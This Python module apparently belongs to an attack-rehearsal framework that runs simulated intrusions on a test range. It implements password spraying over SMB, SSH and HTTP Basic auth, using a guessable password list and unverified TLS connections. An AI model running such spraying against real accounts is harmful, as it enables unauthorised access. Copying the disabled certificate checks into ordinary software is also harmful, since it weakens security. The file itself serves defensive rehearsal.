"""Credential guesses, on accounts that only the range has."""

import base64
import http.client
import ssl
from collections.abc import Callable, Mapping
from contextlib import suppress
from typing import Annotated, ClassVar, Literal

from pydantic import Field

from cloison.model.finding import Technique
from cloison.model.noun import noun
from cloison.rehearse.intruder.act_kinds import Count, PerMinute
from cloison.rehearse.intruder.sessions import smb_session, try_ssh_password
from cloison.rehearse.intruder.stage import Account, Stage, Target

_WORDS = ("Printemps", "Automne", "Hopital", "Bonjour", "Azerty", "Soleil", "Garde", "Vacances")


@noun
class Guess:
    """Try passwords that people choose on the range's own accounts; the last try is the one that opens, where one does.

    Attributes:
        over: the service that is asked.
        accounts: how many names are tried; invented ones once the range has no more.
        tries: passwords tried on each.
        per_minute: tries a minute.
    """

    NAME: ClassVar[str] = "guess"
    TECHNIQUE: ClassVar[Technique] = Technique("T1110.003")
    HOSTILE: ClassVar[bool] = True

    over: Literal["smb", "ssh", "http"] = "smb"
    accounts: Count = 20
    tries: Annotated[int, Field(ge=1, le=8)] = 2
    per_minute: PerMinute = 30.0

    def perform(self, stage: Stage) -> None:
        """Spray: one password on every name, then the next."""
        names = [*stage.order.people, *(f"agent.{number:04d}" for number in range(self.accounts))][: self.accounts]
        for target in stage.targets[:1]:
            tries = [(name, f"{word}2024!") for word in stage.draw.sample(_WORDS, min(self.tries, 8)) for name in names]
            found = stage.account(self.over, target)
            if found is not None and self.over == "smb":
                tries.append((found.user, found.opens))
            for name, password in tries:
                stage.tell(target.address)
                with suppress(OSError):
                    _WAYS[self.over](target, name, password, stage.port(_PORTS[self.over]))
                stage.pause(1 / self.per_minute)


def _over_smb(target: Target, user: str, password: str, port: int) -> None:
    with smb_session(target, Account(service="smb", user=user, opens=password), port):
        return


def _over_http(target: Target, user: str, password: str, port: int) -> None:
    unchecked = ssl._create_unverified_context()  # noqa: S323, SLF001 - an intruder checks no certificate
    line = http.client.HTTPSConnection(target.address, port, timeout=5, context=unchecked)
    try:
        word = base64.b64encode(f"{user}:{password}".encode()).decode()
        line.request("GET", "/", headers={"Authorization": f"Basic {word}"})
        line.getresponse().read(65_536)
    except http.client.HTTPException as error:
        raise OSError(str(error)) from error
    finally:
        line.close()


_PORTS = {"smb": 445, "ssh": 22, "http": 443}
_WAYS: Mapping[str, Callable[[Target, str, str, int], None]] = {
    "smb": _over_smb,
    "ssh": try_ssh_password,
    "http": _over_http,
}

ACT = Guess
